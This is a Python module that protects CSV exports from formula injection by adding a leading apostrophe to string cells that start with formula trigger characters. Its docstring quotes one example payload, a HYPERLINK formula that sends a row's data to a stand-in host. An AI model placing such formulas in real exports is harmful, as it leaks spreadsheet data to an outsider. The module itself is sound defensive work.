"""CSV that cannot attack the spreadsheet it is opened in (CSV/formula injection).

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by
Excel, LibreOffice and Google Sheets; a name such as `=HYPERLINK("http://x/?"&A1,"click")`
would send the row to whoever wrote it. Every CSV the project writes goes through this module
(a test fails on any other `csv.writer`): such a cell gets a leading apostrophe, which
spreadsheets show as text and never evaluate (the OWASP recommendation).

Numbers are written as numbers: only strings are neutralised, so `-3` as an int stays `-3`.
"""

import csv
from collections.abc import Iterable, Mapping
from typing import Any, Protocol

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, s: str, /) -> object: ...


def safe_cell(value: object) -> object:
    """The value, with a leading apostrophe when it is a string a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(row: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in row]


class SafeWriter:
    """`csv.writer` with every cell neutralised."""

    def __init__(self, stream: _Writable, **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, **fmtparams)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """`csv.DictWriter` with every cell (and every header) neutralised."""

    def __init__(self, stream: _Writable, fieldnames: list[str], **fmtparams: Any) -> None:
        self._fieldnames = fieldnames
        self._writer = csv.DictWriter(stream, fieldnames=fieldnames, **fmtparams)

    def writeheader(self) -> None:
        self._writer.writerow({name: safe_cell(name) for name in self._fieldnames})

    def writerow(self, row: Mapping[str, object]) -> None:
        self._writer.writerow({key: safe_cell(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: _Writable, **fmtparams: Any) -> SafeWriter:
    return SafeWriter(stream, **fmtparams)


def dict_writer(stream: _Writable, fieldnames: list[str], **fmtparams: Any) -> SafeDictWriter:
    return SafeDictWriter(stream, fieldnames, **fmtparams)
